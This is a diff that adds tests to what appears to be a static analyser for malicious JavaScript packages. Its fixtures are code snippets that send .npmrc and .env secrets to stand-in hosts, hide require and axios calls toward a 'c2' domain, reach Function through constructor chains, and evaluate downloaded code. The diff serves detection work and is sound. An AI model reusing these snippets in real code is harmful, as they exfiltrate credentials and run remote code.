@@ -371,3 +371,57 @@ test('independent review: spawn(process.execPath, ["-e", code]) analyses code as
   assert.ok(found.includes('network') && found.includes('recon/host-recon'), found.join(' '));
   assert.ok(!caps(analyzeSource("require('child_process').spawn(process.execPath, ['-e', 'console.log(1)']);\n")).includes('network'));
 });
+
+test('independent review 2: require and modules followed through objects, arrays, closures and functions returning constants', () => {
+  const net = (source: string) => caps(analyzeSource(source)).includes('network');
+  // axios is not one of the built-ins a call's lone argument loads by name: these go through the alias tracking.
+  for (const source of [
+    "const o = { r: require };\no.r('axios').post('https://c2.example.invalid/');",
+    "const o = { deep: { r: require } };\no.deep.r('axios').post('https://c2.example.invalid/');",
+    "const a = [require];\na[0]('ax' + 'ios').post('https://c2.example.invalid/');",
+    "const l = {};\nl.load = require;\nl.load('axios').post('https://c2.example.invalid/');",
+    "function loader() { return require; }\nloader()('axios').post('https://c2.example.invalid/');",
+    "const name = (() => 'ax' + 'ios')();\nrequire(name).post('https://c2.example.invalid/');",
+    "function pick() { return process.getBuiltinModule; }\nconst h = process.getBuiltinModule('https');\nh.get('https://c2.example.invalid/');",
+  ]) assert.ok(net(source), source);
+  // Any call whose one argument names a network or process built-in loads it (require handed to a callback).
+  assert.ok(net("function run(load) { load('https').get('https://c2.example.invalid/'); }\nrun(require);"));
+  // Controls: a loader returning different modules, an object of plain values.
+  assert.ok(!net("function pick(x) { if (x) return require('axios'); return require('path'); }\npick(1).post('/');"));
+  assert.ok(!net("const o = { r: (x) => x };\no.r('axios').post('/');"));
+});
+
+test('independent review 2: Function reached through any function\'s constructor, prototype chains and Reflect.construct', () => {
+  const evals = (source: string) => caps(analyzeSource(source)).filter((c) => c.startsWith('eval'));
+  for (const source of [
+    "const AF = Object.getPrototypeOf(async function () {}).constructor;\nAF(code)();",
+    "const G = Reflect.getPrototypeOf(function* () {}).constructor;\nG(code);",
+    "function f() {}\nf.constructor(code)();",
+    "setTimeout.constructor(code)();",
+    "require('fs').readFileSync.constructor(code)();",
+    "Reflect.construct(Function, [code])();",
+    "(() => {}).__proto__.constructor(code)();",
+  ]) assert.deepEqual(evals(source), ['eval'], source);
+  // Controls: the constructor of an instance is its class, not Function.
+  assert.deepEqual(evals('class A {}\nconst a = new A();\nnew a.constructor(code);\nnew this.constructor(code);'), []);
+});
+
+test('independent review 2: values read from credential stores tracked into requests; a .env token in headers is configuration', () => {
+  const sig = (source: string) => caps(analyzeSource(source));
+  const far = Array.from({ length: 80 }, (_, i) => `function pad${i}() { return ${i}; }`).join('\n');
+  assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n${far}\nrequire('https').request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);`).includes('recon/secret-flow'));
+  assert.ok(sig(`const fs = require('fs');\nfs.readFile('.env', 'utf8', (err, data) => { fetch('https://x.example.invalid/', { method: 'POST', body: data }); });`).includes('recon/secret-flow'));
+  assert.ok(sig(`const fs = require('fs');\nfunction env() { return fs.readFileSync('.env', 'utf8'); }\nconst s = require('net').connect(9, 'x.example.invalid');\ns.write(env());`).includes('recon/secret-flow'));
+  // Controls: the .env's token in the Authorization header; a .env read next to a request that carries none of it.
+  const deploy = sig(`const fs = require('fs');\nconst tok = fs.readFileSync('.env', 'utf8');\nfetch(api, { method: 'POST', headers: { authorization: tok } });`);
+  assert.ok(deploy.includes('recon/dotenv-read') && !deploy.includes('recon/secret-flow'));
+  assert.ok(!sig(`const fs = require('fs');\nfs.readFileSync('.env', 'utf8');\nfetch(api, { method: 'POST', body: '{}' });`).includes('recon/secret-flow'));
+});
+
+test('independent review 2: downloads returned by a helper (Promise resolve, async return) reach eval', () => {
+  const sig = (source: string) => caps(analyzeSource(source));
+  assert.ok(sig("const https = require('https');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); })); }\nget(u).then((c) => (0, eval)(c));").includes('eval/eval-downloaded'));
+  assert.ok(sig('async function load(u) { const r = await fetch(u); return r.text(); }\n(async () => { Function(await load(u))(); })();').includes('eval/eval-downloaded'));
+  // Control: a helper returning a constant template.
+  assert.ok(!sig("function tpl() { return 'return 1'; }\nFunction(tpl())();").includes('eval/eval-downloaded'));
+});
